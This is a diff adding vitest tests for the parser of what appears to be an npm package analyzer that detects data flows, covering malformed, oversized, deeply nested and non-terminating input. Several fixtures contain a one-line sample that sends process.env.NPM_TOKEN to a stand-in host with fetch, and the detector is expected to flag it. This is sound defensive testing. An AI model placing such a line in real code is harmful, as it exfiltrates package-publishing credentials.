@@ -1,0 +1,55 @@
+import { describe, expect, it } from "vitest";
+import { isJsLike, parseJs } from "../../../src/analyzers/js/parse.js";
+import { analyze } from "./helpers.js";
+
+describe("parsing", () => {
+  it("parses plain JS with acorn, TS/JSX/Flow with Babel", () => {
+    expect(parseJs("a.js", "const a = 1;").ast?.type).toBe("Program");
+    expect(parseJs("a.ts", "const a: number = 1 as number; enum E { A }").ast?.type).toBe("Program");
+    expect(parseJs("a.tsx", "const x = <div>{y as string}</div>;").ast?.type).toBe("Program");
+    expect(parseJs("a.js", "const x = <b>hi</b>;").ast?.type).toBe("Program");
+    expect(parseJs("a.js", "// @flow\nfunction f(x: number): string { return '' }").ast?.type).toBe("Program");
+  });
+
+  it("reports recovered errors and unreadable files without throwing", () => {
+    const broken = parseJs("a.js", "function ( {{{");
+    expect(broken.ast).toBeUndefined();
+    expect(broken.problem).toMatch(/could not parse/);
+  });
+
+  it("skips declaration files", () => {
+    expect(isJsLike("types/index.d.ts")).toBe(false);
+    expect(isJsLike("src/index.mts")).toBe(true);
+  });
+
+  it("a file that does not parse is a ParseProblem and the rest of the package is analysed", async () => {
+    const facts = await analyze({ "index.js": "fetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });", "broken.js": "if (" });
+    expect(facts.parseProblems.map((p) => p.file)).toEqual(["broken.js"]);
+    expect(facts.flows).toHaveLength(1);
+    expect(facts.filesAnalyzed).toBe(1);
+  });
+
+  it("a file over the size limit is reported, not parsed", async () => {
+    const facts = await analyze({ "index.js": "", "big.js": "//" + "x".repeat(6.5 * 1024 * 1024) });
+    expect(facts.parseProblems).toHaveLength(1);
+    expect(facts.parseProblems[0]!.message).toMatch(/over the 6 MB limit/);
+  });
+
+  it("survives deeply nested and very long code", async () => {
+    const nested = "a(".repeat(300) + ")".repeat(300) + ";";
+    const concat = "const s = " + Array.from({ length: 3000 }, (_, i) => `'p${i}'`).join(" + ") + ";";
+    const facts = await analyze({ "index.js": `${nested}\n${concat}\nfetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });` });
+    expect(facts.flows).toHaveLength(1);
+  });
+
+  it("code nested beyond what the parsers handle is a ParseProblem for that file only", async () => {
+    const facts = await analyze({ "index.js": "fetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });", "deep.js": "a(".repeat(5000) + ")".repeat(5000) });
+    expect(facts.parseProblems.map((p) => [p.file, p.message])).toEqual([["deep.js", "could not parse: code nested too deeply for the parser"]]);
+    expect(facts.flows).toHaveLength(1);
+  });
+
+  it("never hangs on loops that do not terminate", async () => {
+    const facts = await analyze({ "index.js": "let i = 0; while (true) { i++; }\nfor (;;) {}\nfetch('https://x.example.invalid', { body: process.env.NPM_TOKEN });" });
+    expect(facts.flows).toHaveLength(1);
+  });
+});
